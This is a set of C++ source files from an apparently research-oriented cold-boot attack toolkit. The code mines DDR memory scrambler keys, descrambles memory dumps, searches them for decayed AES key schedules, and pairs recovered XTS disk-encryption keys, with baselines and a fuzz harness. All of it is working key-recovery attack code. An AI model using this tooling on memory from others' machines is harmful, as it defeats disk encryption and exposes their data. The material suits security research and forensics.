 * against the neighbouring dump blocks. Decay is tolerated throughout
 * via Hamming-distance comparison, and an iterative repair pass uses
 * the redundancy of the schedule recurrence (every word is predicted
 * by both its forward and backward neighbours) to correct flipped
 * bits before extraction.
 */

#ifndef COLDBOOT_ATTACK_AES_SEARCH_HH
#define COLDBOOT_ATTACK_AES_SEARCH_HH

#include <cstdint>
#include <vector>

#include "attack/key_miner.hh"
#include "common/secure.hh"
#include "crypto/aes.hh"
#include "exec/cancel.hh"
#include "exec/dump_io.hh"
#include "platform/memory_image.hh"

namespace coldboot::attack
{

/** One recovered AES key. */
struct RecoveredAesKey
{
    RecoveredAesKey() = default;
    RecoveredAesKey(const RecoveredAesKey &) = default;
    RecoveredAesKey(RecoveredAesKey &&) = default;
    RecoveredAesKey &operator=(const RecoveredAesKey &) = default;
    RecoveredAesKey &operator=(RecoveredAesKey &&) = default;

    /** Scrub the recovered master key when this copy dies. */
    ~RecoveredAesKey() { secureWipe(master); }

    /** The raw master key (16/24/32 bytes). */
    std::vector<uint8_t> master;
    /** AES variant. */
    crypto::AesKeySize key_size;
    /** Dump byte offset of schedule word 0. */
    uint64_t table_offset;
    /** 64-byte blocks of the table that verified within tolerance. */
    size_t verified_blocks;
    /** Total Hamming distance between reconstruction and dump. */
    unsigned total_bit_errors;
};

/** Key-table search tuning. */
struct SearchParams
{
    /** AES variant to search for. */
    crypto::AesKeySize key_size = crypto::AesKeySize::Aes256;
    /** AES litmus total tolerance per block (bits). */
    unsigned litmus_max_bit_errors = 64;
    /** AES litmus per-predicted-word tolerance (bits). */
    unsigned litmus_max_bits_per_check = 12;
    /** Per-block tolerance when verifying a reconstruction (bits). */
    unsigned verify_block_max_bit_errors = 48;
    /** Minimum verified blocks for acceptance. */
    size_t min_verified_blocks = 3;
    /**
     * Maximum total Hamming distance between the reconstruction and
     * the dump over the whole table; sized for a few percent decay
     * with margin, it rejects phase-shifted misreconstructions that
     * agree only locally.
     */
    unsigned max_total_bit_errors = 192;
    /** Iterations of the forward/backward repair pass. */
    unsigned repair_iterations = 8;
    /** Abort after this many reconstruction attempts (0 = no cap). */
    uint64_t max_reconstructions = 4096;
    /**
     * Worker threads for the scan phase: 0 (default) runs on the
     * shared global exec::ThreadPool (sized by `--threads` /
     * COLDBOOT_THREADS / hardware concurrency), 1 scans serially
     * in-line, N > 1 uses a dedicated pool of N workers. The found
     * keys are byte-identical in every mode (DESIGN.md §9).
     */
    unsigned threads = 0;
    /** First dump byte to scan (line aligned). */
    uint64_t scan_start = 0;
    /** Bytes to scan (0 = to end of dump). */
    uint64_t scan_bytes = 0;
    /**
     * Optional cooperative cancellation: checked once per scan chunk
     * and once per reconstruction attempt; a raised token makes the
     * call throw exec::CancelledError. Null = run to completion.
     */
    const exec::CancelToken *cancel = nullptr;
};

/** Search statistics. */
struct SearchStats
{
    uint64_t blocks_scanned = 0;
    uint64_t descramble_attempts = 0;
    uint64_t litmus_hits = 0;
    uint64_t reconstructions_tried = 0;
    uint64_t reconstructions_verified = 0;
    /** Wall-clock seconds spent scanning. */
    double seconds = 0.0;
};

/**
 * Search a scrambled dump for expanded AES key tables.
 *
 * @param dump           The scrambled dump (any DumpSource backend).
 * @param candidate_keys Mined scrambler keys (attack step 1 output).
 * @param params         Tuning.
 * @param stats          Optional statistics out-parameter.
 * @return Distinct recovered keys, best-verified first.
 */
std::vector<RecoveredAesKey> searchAesKeyTables(
    const exec::DumpSource &dump,
    const std::vector<MinedKey> &candidate_keys,
    const SearchParams &params = {}, SearchStats *stats = nullptr);

/** Convenience overload over an in-memory image (zero-copy). */
std::vector<RecoveredAesKey> searchAesKeyTables(
    const platform::MemoryImage &dump,
    const std::vector<MinedKey> &candidate_keys,
    const SearchParams &params = {}, SearchStats *stats = nullptr);

/**
 * Iteratively repair a decayed schedule-word sequence in place using
 * the forward and backward recurrence predictions (exposed for tests
 * and ablation benches).
 *
 * @param words       Observed schedule words w[first_word ..
 *                    first_word + words.size()).
 * @param first_word  Absolute index of words[0].
 * @param nk          Key length in words.
 * @param iterations  Maximum repair sweeps.
 * @return Number of words modified.
 */
unsigned repairAesScheduleWords(std::span<uint32_t> words,
                                unsigned first_word, unsigned nk,
                                unsigned iterations);

} // namespace coldboot::attack

#endif // COLDBOOT_ATTACK_AES_SEARCH_HH
