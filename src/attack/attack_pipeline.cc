#include "attack/attack_pipeline.hh"

#include <algorithm>

#include "common/logging.hh"
#include "crypto/aes.hh"
#include "obs/progress.hh"
#include "obs/stats.hh"
#include "obs/trace.hh"

namespace coldboot::attack
{

std::vector<RecoveredXtsKeys>
pairXtsKeys(const std::vector<RecoveredAesKey> &recovered)
{
    std::vector<RecoveredXtsKeys> pairs;
    for (const auto &a : recovered) {
        uint64_t sched =
            crypto::aesScheduleBytes(a.key_size);
        for (const auto &b : recovered) {
            if (b.key_size != a.key_size)
                continue;
            if (b.table_offset == a.table_offset + sched) {
                RecoveredXtsKeys pair;
                pair.data_key = a.master;
                pair.tweak_key = b.master;
                pair.table_offset = a.table_offset;
                pairs.push_back(std::move(pair));
            }
        }
    }
    return pairs;
}

PipelineReport
runColdBootAttack(const exec::DumpSource &dump,
                  const PipelineParams &params)
{
    auto &registry = obs::StatRegistry::global();
    obs::ScopedSpan pipeline_span("attack.pipeline");
    PipelineReport report;

    // Umbrella job over the whole pipeline: the unit is "dump bytes
    // to scan" - one mining pass plus one search pass per key size.
    // Stage-level jobs (attack.miner / attack.search) report finer
    // grain; this one gives `/progress` a single end-to-end figure.
    uint64_t mine_bytes = dump.size();
    if (params.miner.scan_limit_bytes != 0)
        mine_bytes = std::min<uint64_t>(mine_bytes,
                                        params.miner.scan_limit_bytes);
    mine_bytes &= ~63ull;
    auto progress = obs::ProgressTracker::global().startJob(
        "attack.pipeline",
        mine_bytes + dump.size() * params.key_sizes.size());

    {
        obs::ScopedSpan span("mine");
        cb_inform("attack: mining scrambler keys from %zu MiB dump",
                  dump.size() >> 20);
        report.mined_keys =
            mineScramblerKeys(dump, params.miner,
                              &report.miner_stats);
    }
    progress->advance(mine_bytes);
    cb_inform("attack: mined %zu candidate keys "
              "(%llu litmus hits over %llu blocks)",
              report.mined_keys.size(),
              static_cast<unsigned long long>(
                  report.miner_stats.litmus_hits),
              static_cast<unsigned long long>(
                  report.miner_stats.blocks_scanned));

    {
        obs::ScopedSpan span("search");
        for (crypto::AesKeySize ks : params.key_sizes) {
            SearchParams search = params.search;
            search.key_size = ks;
            SearchStats stats;
            auto found = searchAesKeyTables(dump, report.mined_keys,
                                            search, &stats);
            report.recovered.insert(report.recovered.end(),
                                    found.begin(), found.end());
            report.search_stats.blocks_scanned +=
                stats.blocks_scanned;
            report.search_stats.descramble_attempts +=
                stats.descramble_attempts;
            report.search_stats.litmus_hits += stats.litmus_hits;
            report.search_stats.reconstructions_tried +=
                stats.reconstructions_tried;
            report.search_stats.reconstructions_verified +=
                stats.reconstructions_verified;
            report.search_stats.seconds += stats.seconds;
            progress->advance(dump.size());
        }
    }
    cb_inform("attack: recovered %zu AES key table(s)",
              report.recovered.size());

    {
        obs::ScopedSpan span("pair");
        report.xts_pairs = pairXtsKeys(report.recovered);
    }
    progress->finish();
    cb_inform("attack: paired %zu XTS master key set(s)",
              report.xts_pairs.size());

    registry.counter("attack.pipeline.bytes_scanned",
                     "dump bytes scanned across mining and search")
        .add((report.miner_stats.blocks_scanned +
              report.search_stats.blocks_scanned) * 64);
    registry.counter("attack.pipeline.keys_recovered",
                     "AES key tables recovered")
        .add(report.recovered.size());
    registry.counter("attack.pipeline.xts_pairs",
                     "XTS master key pairs recovered")
        .add(report.xts_pairs.size());
    registry.rate("attack.pipeline.runs",
                  "end-to-end attack pipelines completed").add();

    // Throughput from the registry's wall-clock span of the whole
    // pipeline; an empty dump (or an impossibly fast run) reports 0
    // rather than inf/nan.
    double seconds = pipeline_span.stop();
    if (dump.size() > 0 && seconds > 0.0) {
        report.mib_per_second =
            static_cast<double>(dump.size()) / (1 << 20) / seconds;
    }
    registry.setScalar("attack.pipeline.mib_per_second",
                       report.mib_per_second,
                       "end-to-end scan throughput of the most "
                       "recent pipeline run");
    return report;
}

PipelineReport
runColdBootAttack(const platform::MemoryImage &dump,
                  const PipelineParams &params)
{
    exec::MemoryDumpSource source(dump.bytes());
    return runColdBootAttack(source, params);
}

} // namespace coldboot::attack
