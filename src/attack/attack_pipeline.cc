#include "attack/attack_pipeline.hh"

#include "attack/sessions.hh"
#include "crypto/aes.hh"

namespace coldboot::attack
{

std::vector<RecoveredXtsKeys>
pairXtsKeys(const std::vector<RecoveredAesKey> &recovered)
{
    std::vector<RecoveredXtsKeys> pairs;
    for (const auto &a : recovered) {
        uint64_t sched =
            crypto::aesScheduleBytes(a.key_size);
        for (const auto &b : recovered) {
            if (b.key_size != a.key_size)
                continue;
            if (b.table_offset == a.table_offset + sched) {
                RecoveredXtsKeys pair;
                pair.data_key = a.master;
                pair.tweak_key = b.master;
                pair.table_offset = a.table_offset;
                pairs.push_back(std::move(pair));
            }
        }
    }
    return pairs;
}

PipelineReport
runColdBootAttack(const exec::DumpSource &dump,
                  const PipelineParams &params)
{
    // The one-shot entry point IS the session path: construct the
    // stage machine and drive it to completion in-line. The analysis
    // service drives the same object step by step, so service job
    // results are byte-identical to this call by construction.
    AttackSession session(dump, params);
    session.runToCompletion();
    return session.takeReport();
}

PipelineReport
runColdBootAttack(const platform::MemoryImage &dump,
                  const PipelineParams &params)
{
    exec::MemoryDumpSource source(dump.bytes());
    return runColdBootAttack(source, params);
}

} // namespace coldboot::attack
