#include "attack/key_miner.hh"

#include <algorithm>
#include <memory>
#include <unordered_map>

#include "common/bits.hh"
#include "common/logging.hh"
#include "attack/litmus.hh"
#include "simd/simd.hh"
#include "exec/thread_pool.hh"
#include "obs/progress.hh"
#include "obs/stats.hh"
#include "obs/trace.hh"

namespace coldboot::attack
{

namespace
{

/**
 * A cluster of litmus-passing blocks believed to be decayed copies
 * of one scrambler key. Per-bit vote counts let the miner recover
 * the pristine key by majority even when every copy has flips.
 */
struct Cluster
{
    std::array<uint16_t, 512> one_votes{};
    size_t members = 0;
    uint64_t first_offset = 0;
    std::array<uint8_t, 64> representative{};

    void
    add(std::span<const uint8_t> block, uint64_t offset)
    {
        if (members == 0) {
            first_offset = offset;
            std::copy(block.begin(), block.end(),
                      representative.begin());
        }
        for (unsigned bit = 0; bit < 512; ++bit)
            one_votes[bit] += (block[bit / 8] >> (bit % 8)) & 1;
        ++members;
    }

    std::array<uint8_t, 64>
    majority() const
    {
        // Per-bit majority vote; an exact tie (possible with an even
        // member count) falls back to the first-seen copy's bit -
        // an arbitrary tie-break would be wrong half the time and a
        // single wrong key bit systematically corrupts every block
        // descrambled with that key.
        std::array<uint8_t, 64> key{};
        for (unsigned bit = 0; bit < 512; ++bit) {
            unsigned ones = 2 * one_votes[bit];
            bool value;
            if (ones > members)
                value = true;
            else if (ones < members)
                value = false;
            else
                value = (representative[bit / 8] >> (bit % 8)) & 1;
            if (value)
                key[bit / 8] |= static_cast<uint8_t>(1u << (bit % 8));
        }
        return key;
    }
};

/**
 * Hamming distance with early exit once @p limit is exceeded
 * (returns exactly min(distance, limit + 1) on every backend).
 * The previous hand-rolled loop silently ignored non-multiple-of-8
 * tails; the kernel counts every byte.
 */
unsigned
boundedDistance(std::span<const uint8_t> a, std::span<const uint8_t> b,
                unsigned limit)
{
    return static_cast<unsigned>(
        simd::hammingDistanceBounded(a.data(), b.data(), a.size(),
                                     limit));
}

/** Litmus hits of one scan chunk, in ascending dump order. */
struct ChunkHits
{
    /** (offset, block copy) - copied because buffered chunk views
     *  are scratch memory invalidated by the next read. */
    std::vector<std::pair<uint64_t, std::array<uint8_t, 64>>> hits;
    uint64_t blocks_scanned = 0;
    uint64_t constant_dropped = 0;
};

/** Scan granularity: 16 Ki blocks per task. */
constexpr uint64_t kScanGrain = 1ull << 20;

} // anonymous namespace

std::vector<MinedKey>
mineScramblerKeys(const exec::DumpSource &dump,
                  const MinerParams &params, MinerStats *stats)
{
    // The registry is the system of record; the MinerStats
    // out-parameter is filled as a view of this call's deltas.
    auto &registry = obs::StatRegistry::global();
    obs::Counter &c_blocks = registry.counter(
        "attack.miner.blocks_scanned",
        "64-byte blocks examined by the scrambler-key miner");
    obs::Counter &c_hits = registry.counter(
        "attack.miner.litmus_hits",
        "blocks passing the scrambler-key litmus test");
    obs::Counter &c_constant = registry.counter(
        "attack.miner.constant_dropped",
        "trivially constant blocks dropped before clustering");
    obs::Counter &c_clusters = registry.counter(
        "attack.miner.clusters", "key clusters formed");
    obs::Counter &c_keys = registry.counter(
        "attack.miner.keys_reported", "candidate keys reported");
    obs::ScopedTimer timer(registry.distribution(
        "attack.miner.seconds", "wall-clock seconds per mining run"));

    MinerStats local;
    uint64_t scan_bytes = dump.size();
    if (params.scan_limit_bytes != 0)
        scan_bytes = std::min<uint64_t>(scan_bytes,
                                        params.scan_limit_bytes);

    std::vector<Cluster> clusters;
    // Multi-index bucket map: a block joins a cluster quickly when
    // any of its eight 8-byte chunks is flip-free and matches the
    // cluster's first member chunk. Misses fall back to a linear
    // scan, and near-duplicate clusters get merged at the end.
    std::unordered_map<uint64_t, std::vector<size_t>> buckets;
    auto chunk_key = [](unsigned chunk_idx, uint64_t value) {
        return value * 8 + chunk_idx;
    };

    // Clustering is order-sensitive (a block joins the first cluster
    // within distance), so the parallel scan only collects litmus
    // hits per chunk; the reduction below feeds them to the
    // clustering in ascending dump order - byte-identical to the old
    // sequential scan for any worker count.
    auto cluster_block = [&](std::span<const uint8_t> block,
                             uint64_t off) {
        size_t home = SIZE_MAX;
        for (unsigned c = 0; c < 8 && home == SIZE_MAX; ++c) {
            uint64_t v = loadLE64(&block[8 * c]);
            auto it = buckets.find(chunk_key(c, v));
            if (it == buckets.end())
                continue;
            for (size_t idx : it->second) {
                if (boundedDistance(block,
                                    clusters[idx].representative,
                                    params.cluster_distance) <=
                    params.cluster_distance) {
                    home = idx;
                    break;
                }
            }
        }
        if (home == SIZE_MAX) {
            // Fall back to a bounded linear scan.
            for (size_t idx = 0; idx < clusters.size(); ++idx) {
                if (boundedDistance(block,
                                    clusters[idx].representative,
                                    params.cluster_distance) <=
                    params.cluster_distance) {
                    home = idx;
                    break;
                }
            }
        }
        if (home == SIZE_MAX) {
            clusters.emplace_back();
            home = clusters.size() - 1;
            for (unsigned c = 0; c < 8; ++c) {
                uint64_t v = loadLE64(&block[8 * c]);
                buckets[chunk_key(c, v)].push_back(home);
            }
        }
        clusters[home].add(block, off);
    };

    scan_bytes &= ~63ull;
    // params.threads: 0 = the shared global pool, 1 = serial
    // in-line, N > 1 = a dedicated pool of N workers.
    std::unique_ptr<exec::ThreadPool> own_pool;
    if (params.threads > 1)
        own_pool = std::make_unique<exec::ThreadPool>(params.threads);
    bool sequential = params.threads == 1;
    // Progress advances in the ordered reduction (the caller
    // thread), so reporting never touches the parallel map path.
    auto progress = obs::ProgressTracker::global().startJob(
        "attack.miner", scan_bytes);
    exec::parallelMapReduceChunks<ChunkHits>(
        0, scan_bytes, kScanGrain,
        [&](const exec::ChunkRange &c) {
            exec::checkpointIfCancellable(params.cancel);
            thread_local exec::ChunkBuffer buf;
            dump.prefetch(c.begin, c.end - c.begin);
            auto bytes = dump.chunk(c.begin, c.end - c.begin, buf);
            ChunkHits out;
            for (uint64_t off = 0; off + 64 <= bytes.size();
                 off += 64) {
                auto block = bytes.subspan(off, 64);
                ++out.blocks_scanned;
                if (!scramblerKeyLitmus(block,
                                        params.litmus_max_bit_errors))
                    continue;
                if (params.drop_constant_blocks &&
                    isConstantBlock(block)) {
                    ++out.constant_dropped;
                    continue;
                }
                auto &hit = out.hits.emplace_back();
                hit.first = c.begin + off;
                std::copy(block.begin(), block.end(),
                          hit.second.begin());
            }
            return out;
        },
        [&](ChunkHits &&h, const exec::ChunkRange &c) {
            local.blocks_scanned += h.blocks_scanned;
            local.constant_dropped += h.constant_dropped;
            local.litmus_hits += h.hits.size();
            for (auto &[off, block] : h.hits) {
                cluster_block(block, off);
                secureWipe(block.data(), block.size());
            }
            progress->advance(c.end - c.begin);
        },
        own_pool.get(), sequential);
    progress->finish();

    // Merge clusters whose majority keys ended up close (decay can
    // split one key across clusters when early copies were noisy).
    std::vector<std::array<uint8_t, 64>> majorities(clusters.size());
    for (size_t i = 0; i < clusters.size(); ++i)
        majorities[i] = clusters[i].majority();

    std::vector<MinedKey> out;
    std::vector<bool> merged(clusters.size(), false);
    for (size_t i = 0; i < clusters.size(); ++i) {
        if (merged[i])
            continue;
        auto key_i = majorities[i];
        size_t occurrences = clusters[i].members;
        size_t biggest = clusters[i].members;
        uint64_t first = clusters[i].first_offset;
        for (size_t j = i + 1; j < clusters.size(); ++j) {
            if (merged[j])
                continue;
            const auto &key_j = majorities[j];
            if (boundedDistance(key_i, key_j,
                                params.cluster_distance) <=
                params.cluster_distance) {
                occurrences += clusters[j].members;
                first = std::min(first, clusters[j].first_offset);
                merged[j] = true;
                // Trust the majority vote of the largest constituent.
                if (clusters[j].members > biggest) {
                    biggest = clusters[j].members;
                    key_i = key_j;
                }
            }
        }
        if (occurrences >= params.min_occurrences)
            out.push_back(MinedKey{key_i, occurrences, first});
    }

    std::sort(out.begin(), out.end(),
              [](const MinedKey &a, const MinedKey &b) {
                  return a.occurrences > b.occurrences;
              });

    // Scrub the intermediate key copies (cluster representatives,
    // per-bit vote tallies, majority keys) before they are freed -
    // the reported MinedKeys scrub themselves on destruction.
    for (auto &c : clusters) {
        secureWipe(c.representative.data(), c.representative.size());
        secureWipe(c.one_votes.data(), sizeof(c.one_votes));
    }
    for (auto &m : majorities)
        secureWipe(m.data(), m.size());

    local.clusters = clusters.size();
    local.keys_reported = out.size();

    c_hits.add(local.litmus_hits);
    c_constant.add(local.constant_dropped);
    c_clusters.add(local.clusters);
    c_keys.add(local.keys_reported);
    // Deliberately NOT re-derived from the registry counter: reading
    // value() - before here absorbs concurrent runs' increments, so a
    // run overlapping another would report their blocks as its own
    // (found by the miner-planted-keys fuzz oracle).
    c_blocks.add(local.blocks_scanned);
    if (stats)
        *stats = local;
    return out;
}

std::vector<MinedKey>
mineScramblerKeys(const platform::MemoryImage &dump,
                  const MinerParams &params, MinerStats *stats)
{
    exec::MemoryDumpSource source(dump.bytes());
    return mineScramblerKeys(source, params, stats);
}

} // namespace coldboot::attack
