#include "attack/halderman_search.hh"

#include <algorithm>
#include <bit>
#include <set>

#include "common/logging.hh"

namespace coldboot::attack
{

std::vector<BaselineKey>
haldermanSearch(const platform::MemoryImage &image,
                const BaselineParams &params)
{
    using namespace crypto;

    unsigned nk = aesNk(params.key_size);
    size_t key_len = static_cast<size_t>(params.key_size);
    size_t sched_bytes = aesScheduleBytes(params.key_size);
    unsigned total_words = static_cast<unsigned>(sched_bytes) / 4;

    cb_assert(params.step > 0, "haldermanSearch: zero step");

    uint64_t begin = params.scan_start;
    uint64_t end = params.scan_bytes == 0
        ? image.size()
        : std::min<uint64_t>(image.size(),
                             params.scan_start + params.scan_bytes);

    std::vector<BaselineKey> out;
    std::set<std::vector<uint8_t>> seen;
    auto bytes = image.bytes();

    for (uint64_t off = begin;
         off + sched_bytes <= end; off += params.step) {
        // Take the window as the raw key and expand incrementally,
        // comparing each generated word against the bytes that
        // follow; bail out as soon as the error budget is exhausted.
        uint32_t window[8];
        for (unsigned i = 0; i < nk; ++i)
            window[i] = aesWordFromBytes(&bytes[off + 4 * i]);

        unsigned errors = 0;
        bool match = true;
        // Rolling window of the last nk words.
        uint32_t last[8];
        std::copy(window, window + nk, last);
        for (unsigned i = nk; i < total_words; ++i) {
            uint32_t next =
                aesScheduleStep(last[nk - 1], last[0], i, nk);
            uint32_t observed =
                aesWordFromBytes(&bytes[off + 4 * i]);
            errors += static_cast<unsigned>(
                std::popcount(next ^ observed));
            if (errors > params.max_bit_errors) {
                match = false;
                break;
            }
            for (unsigned m = 0; m + 1 < nk; ++m)
                last[m] = last[m + 1];
            last[nk - 1] = next;
        }
        if (!match)
            continue;

        BaselineKey key;
        key.master.assign(bytes.begin() + static_cast<size_t>(off),
                          bytes.begin() +
                              static_cast<size_t>(off + key_len));
        key.key_size = params.key_size;
        key.offset = off;
        key.bit_errors = errors;
        if (seen.insert(key.master).second)
            out.push_back(std::move(key));
    }
    return out;
}

} // namespace coldboot::attack
