#include "attack/halderman_search.hh"

#include <algorithm>
#include <bit>
#include <set>

#include "common/logging.hh"
#include "exec/thread_pool.hh"
#include "obs/progress.hh"
#include "obs/trace.hh"
#include "simd/simd.hh"

namespace coldboot::attack
{

namespace
{

/** Window positions evaluated per pool task. */
constexpr uint64_t kWindowGrain = 4096;

} // anonymous namespace

std::vector<BaselineKey>
haldermanSearch(const exec::DumpSource &image,
                const BaselineParams &params)
{
    using namespace crypto;

    unsigned nk = aesNk(params.key_size);
    size_t key_len = static_cast<size_t>(params.key_size);
    size_t sched_bytes = aesScheduleBytes(params.key_size);
    unsigned total_words = static_cast<unsigned>(sched_bytes) / 4;

    cb_assert(params.step > 0, "haldermanSearch: zero step");

    uint64_t begin = params.scan_start;
    uint64_t end = params.scan_bytes == 0
        ? image.size()
        : std::min<uint64_t>(image.size(),
                             params.scan_start + params.scan_bytes);

    std::vector<BaselineKey> out;
    std::set<std::vector<uint8_t>> seen;
    if (end < begin || end - begin < sched_bytes)
        return out;
    uint64_t windows = (end - begin - sched_bytes) / params.step + 1;

    // Evaluate one candidate window against the plaintext bytes that
    // follow it. A short incremental screen rejects almost every
    // window on its first generated words; survivors batch-expand
    // the rest of the schedule (a pure function of the window) and
    // compare it with the bounded Hamming kernel. Error accumulation
    // is monotone, so accept/reject and the recorded bit_errors are
    // byte-identical to the fully incremental walk.
    auto try_window = [&](std::span<const uint8_t> bytes,
                          uint64_t local_off, uint64_t abs_off,
                          std::vector<BaselineKey> &found) {
        uint32_t window[8];
        for (unsigned i = 0; i < nk; ++i)
            window[i] =
                aesWordFromBytes(&bytes[local_off + 4 * i]);

        unsigned errors = 0;
        // Rolling window of the last nk words.
        uint32_t last[8];
        std::copy(window, window + nk, last);
        constexpr unsigned kScreenWords = 2;
        unsigned screened =
            std::min(total_words, nk + kScreenWords);
        for (unsigned i = nk; i < screened; ++i) {
            uint32_t next =
                aesScheduleStep(last[nk - 1], last[0], i, nk);
            uint32_t observed =
                aesWordFromBytes(&bytes[local_off + 4 * i]);
            errors += static_cast<unsigned>(
                std::popcount(next ^ observed));
            if (errors > params.max_bit_errors)
                return;
            for (unsigned m = 0; m + 1 < nk; ++m)
                last[m] = last[m + 1];
            last[nk - 1] = next;
        }
        if (screened < total_words) {
            auto tail = aesScheduleContinue(
                std::span<const uint32_t>(last, nk), screened,
                total_words - screened, nk);
            std::vector<uint8_t> pred(4 * tail.size());
            for (size_t i = 0; i < tail.size(); ++i)
                aesBytesFromWord(tail[i], &pred[4 * i]);
            size_t budget = params.max_bit_errors - errors;
            size_t rem = simd::hammingDistanceBounded(
                &bytes[local_off + 4 * screened], pred.data(),
                pred.size(), budget);
            if (rem > budget)
                return;
            errors += static_cast<unsigned>(rem);
        }

        BaselineKey key;
        key.master.assign(
            bytes.begin() + static_cast<size_t>(local_off),
            bytes.begin() + static_cast<size_t>(local_off + key_len));
        key.key_size = params.key_size;
        key.offset = abs_off;
        key.bit_errors = errors;
        found.push_back(std::move(key));
    };

    // The windows overlap (each spans sched_bytes), so every chunk
    // reads its positions plus the schedule-length tail; candidates
    // are deduplicated during the ordered reduction, giving output
    // byte-identical to the sequential slide.
    auto progress = obs::ProgressTracker::global().startJob(
        "attack.halderman", windows);
    // Span context: chunk tasks submitted below are parented here,
    // so the trace shows the whole baseline sweep as one subtree.
    obs::ScopedSpan span("search.halderman");
    exec::parallelMapReduceChunks<std::vector<BaselineKey>>(
        0, windows, kWindowGrain,
        [&](const exec::ChunkRange &c) {
            exec::checkpointIfCancellable(params.cancel);
            thread_local exec::ChunkBuffer buf;
            uint64_t lo = begin + c.begin * params.step;
            uint64_t hi = std::min<uint64_t>(
                end, begin + (c.end - 1) * params.step + sched_bytes);
            image.prefetch(lo, hi - lo);
            auto bytes = image.chunk(lo, hi - lo, buf);
            std::vector<BaselineKey> found;
            for (uint64_t w = c.begin; w < c.end; ++w) {
                uint64_t abs_off = begin + w * params.step;
                try_window(bytes, abs_off - lo, abs_off, found);
            }
            return found;
        },
        [&](std::vector<BaselineKey> &&found,
            const exec::ChunkRange &c) {
            for (auto &key : found)
                if (seen.insert(key.master).second)
                    out.push_back(std::move(key));
            progress->advance(c.end - c.begin);
        });
    progress->finish();
    return out;
}

std::vector<BaselineKey>
haldermanSearch(const platform::MemoryImage &image,
                const BaselineParams &params)
{
    exec::MemoryDumpSource source(image.bytes());
    return haldermanSearch(source, params);
}

} // namespace coldboot::attack
