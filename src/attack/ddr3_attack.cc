#include "attack/ddr3_attack.hh"

#include <cstring>
#include <algorithm>
#include <vector>

#include "common/bits.hh"
#include "common/logging.hh"
#include "simd/simd.hh"

namespace coldboot::attack
{

namespace
{

/**
 * Hamming distance with early exit once @p limit is exceeded
 * (exactly min(distance, limit + 1); tail bytes are counted).
 */
unsigned
boundedDistance(std::span<const uint8_t> a, std::span<const uint8_t> b,
                unsigned limit)
{
    return static_cast<unsigned>(
        simd::hammingDistanceBounded(a.data(), b.data(), a.size(),
                                     limit));
}

} // anonymous namespace

std::array<uint8_t, 64>
mostFrequentLine(const platform::MemoryImage &image,
                 size_t stride_lines, size_t offset_lines,
                 unsigned refine_distance)
{
    cb_assert(stride_lines > 0, "mostFrequentLine: zero stride");

    // Clustered frequency pass over a bounded sample: bit decay
    // leaves few byte-exact copies of the dominant line, so lines are
    // grouped by Hamming proximity instead of equality.
    struct Cluster
    {
        std::array<uint8_t, 64> rep;
        size_t count;
    };
    std::vector<Cluster> clusters;
    // Spread the sample across the whole image so localized regions
    // (firmware pollution, a single large allocation) cannot
    // dominate it.
    const size_t sample_cap = 4096;
    size_t strided_total =
        (image.lines() - std::min(offset_lines, image.lines())) /
        stride_lines;
    size_t decimation = std::max<size_t>(
        1, (strided_total + sample_cap - 1) / sample_cap);
    size_t effective_stride = stride_lines * decimation;
    size_t sampled = 0;
    for (size_t l = offset_lines;
         l < image.lines() && sampled < sample_cap;
         l += effective_stride, ++sampled) {
        auto line = image.line(l);
        bool placed = false;
        for (auto &c : clusters) {
            if (boundedDistance(line, c.rep, refine_distance) <=
                refine_distance) {
                ++c.count;
                placed = true;
                break;
            }
        }
        if (!placed) {
            Cluster c;
            std::memcpy(c.rep.data(), line.data(), 64);
            c.count = 1;
            clusters.push_back(c);
        }
    }
    cb_assert(!clusters.empty(), "mostFrequentLine: empty selection");

    const Cluster *winner = &clusters[0];
    for (const auto &c : clusters)
        if (c.count > winner->count)
            winner = &c;
    std::array<uint8_t, 64> base = winner->rep;

    // Refinement: majority vote over all nearby lines to undo decay.
    std::array<uint32_t, 512> one_votes{};
    size_t members = 0;
    for (size_t l = offset_lines; l < image.lines();
         l += stride_lines) {
        auto line = image.line(l);
        if (hammingDistance(line, base) > refine_distance)
            continue;
        for (unsigned bit = 0; bit < 512; ++bit)
            one_votes[bit] += (line[bit / 8] >> (bit % 8)) & 1;
        ++members;
    }
    std::array<uint8_t, 64> refined{};
    for (unsigned bit = 0; bit < 512; ++bit)
        if (2 * one_votes[bit] > members)
            refined[bit / 8] |= static_cast<uint8_t>(1u << (bit % 8));
    return refined;
}

std::array<uint8_t, 64>
recoverDdr3UniversalKey(const platform::MemoryImage &dump)
{
    return mostFrequentLine(dump);
}

std::vector<std::array<uint8_t, 64>>
recoverDdr3Keys(const platform::MemoryImage &dump)
{
    std::vector<std::array<uint8_t, 64>> keys(16);
    for (size_t idx = 0; idx < 16; ++idx)
        keys[idx] = mostFrequentLine(dump, 16, idx);
    return keys;
}

void
descrambleWithUniversalKey(platform::MemoryImage &image,
                           const std::array<uint8_t, 64> &key)
{
    // One flat repeat-key sweep over the whole-line prefix (any
    // trailing partial line stays untouched, as before).
    simd::xorRepeatKey64(image.bytesMutable().data(), key.data(),
                         image.lines() * 64);
}

void
descrambleDdr3(platform::MemoryImage &image,
               const std::vector<std::array<uint8_t, 64>> &keys)
{
    cb_assert(keys.size() == 16, "descrambleDdr3: need 16 keys");
    for (size_t l = 0; l < image.lines(); ++l) {
        auto line = image.lineMutable(l);
        simd::xorBytes(line.data(), keys[l % 16].data(), 64);
    }
}

} // namespace coldboot::attack
