#include "fuzz/harness.hh"

#include <algorithm>
#include <memory>
#include <set>
#include <utility>

#include "common/logging.hh"
#include "exec/thread_pool.hh"
#include "fuzz/fuzz_rng.hh"
#include "fuzz/reducer.hh"
#include "obs/json.hh"
#include "obs/stats.hh"

namespace coldboot::fuzz
{

namespace
{

/** One executed case, carried through the ordered reduction. */
struct CaseRecord
{
    uint32_t oracle = 0; // index into the selected-oracle list
    uint64_t base_seed = 0;
    FuzzCaseParams params;
    OracleResult result;
};

/** Per-chunk map output (cases in execution order within the chunk). */
struct ChunkResults
{
    std::vector<CaseRecord> cases;
};

} // anonymous namespace

std::string
CampaignReport::toJson() const
{
    using obs::json::escape;
    std::string out;
    out += "{\n";
    out += "  \"schema\": \"coldboot-fuzz-campaign-v1\",\n";
    out += std::string("  \"profile\": \"") +
           (config.profile == CampaignConfig::Profile::Smoke
                ? "smoke"
                : "full") +
           "\",\n";
    // 64-bit values render as decimal strings: the in-tree JSON
    // parser stores numbers as doubles and would silently round
    // seeds above 2^53.
    out += "  \"seed_begin\": \"" +
           std::to_string(config.seed_begin) + "\",\n";
    out += "  \"seed_end\": \"" + std::to_string(config.seed_end) +
           "\",\n";
    out += "  \"energy\": " + std::to_string(config.energy) + ",\n";
    out += "  \"scale\": " + std::to_string(config.scale) + ",\n";
